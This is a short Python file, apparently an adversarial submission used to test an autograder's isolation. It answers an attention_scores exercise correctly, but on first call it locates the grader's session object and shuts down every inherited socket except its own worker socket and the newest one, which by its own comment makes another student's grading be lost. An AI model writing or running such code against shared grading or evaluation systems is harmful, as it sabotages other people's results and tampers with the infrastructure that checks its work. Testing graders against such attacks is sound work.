# ATTACK: shutdown() on every inherited socket except its own worker socket and its own grading connection (the newest): breaks the pool parent's connection to the OTHER grading process, so another student's grading is lost. Computes ex03 correctly. Honest grader: 100 here, others unaffected.
import gc, os, socket, stat
def _session():
    for o in gc.get_objects():
        if type(o).__name__ == "_Session":
            return o
_S = _session()
_fired = False
def attention_scores(Q, K):
    global _fired
    if not _fired:
        _fired = True
        mine = _S.sock.fileno()
        fds = []
        for fd in os.listdir("/proc/self/fd"):
            fd = int(fd)
            try:
                if fd != mine and stat.S_ISSOCK(os.fstat(fd).st_mode):
                    fds.append(fd)
            except OSError:
                pass
        for fd in sorted(fds)[:-1]:
            try:
                socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
    return Q @ K.transpose(-2, -1)
